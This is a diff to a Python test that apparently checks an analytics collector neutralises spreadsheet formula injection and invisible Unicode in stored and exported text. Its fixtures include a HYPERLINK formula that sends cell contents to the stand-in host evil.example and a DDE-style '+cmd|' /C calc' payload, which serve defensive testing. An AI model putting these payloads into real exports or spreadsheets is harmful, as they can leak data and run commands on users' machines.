@@ -148,7 +148,10 @@ def test_dimension_text_groups_as_it_reads_and_exports_as_text(collector, local_
     sent = {
         "zero-width": {"process_name": "De\u200bmo", "utm_source": "news\u2060letter"},
         "bidi": {"process_name": "\u202eomeD", "utm_source": "\ufeffnewsletter"},
-        "formula": {"process_name": "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Demo\")", "utm_source": "+cmd|' /C calc'!A0"},
+        "formula": {
+            "process_name": '=HYPERLINK("https://evil.example/?x="&A1,"Demo")',
+            "utm_source": "+cmd|' /C calc'!A0",
+        },
         "at": {"process_name": "@SUM(1+1)*cmd", "utm_source": "-2+3+cmd"},
         "tab": {"process_name": "\t=1+1", "utm_source": "\r=1+1"},
         "plain": {"process_name": "Demo", "utm_source": "-5"},
@@ -163,12 +166,14 @@ def test_dimension_text_groups_as_it_reads_and_exports_as_text(collector, local_
     assert stored == {
         "zero-width": ("Demo", "newsletter"),
         "bidi": ("omeD", "newsletter"),
-        "formula": ("'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Demo\")", "'+cmd|' /C calc'!A0"),
+        "formula": ('\'=HYPERLINK("https://evil.example/?x="&A1,"Demo")', "'+cmd|' /C calc'!A0"),
         "at": ("'@SUM(1+1)*cmd", "'-2+3+cmd"),
         "tab": ("'\t=1+1", "'\r=1+1"),
         "plain": ("Demo", "-5"),
     }
-    assert {label: row["page_title"] for label, row in rows.items()} == {label: name for label, (name, _) in stored.items()}
+    assert {label: row["page_title"] for label, row in rows.items()} == {
+        label: name for label, (name, _) in stored.items()
+    }
 
 
 def test_every_format_character_is_removed_and_nothing_else():
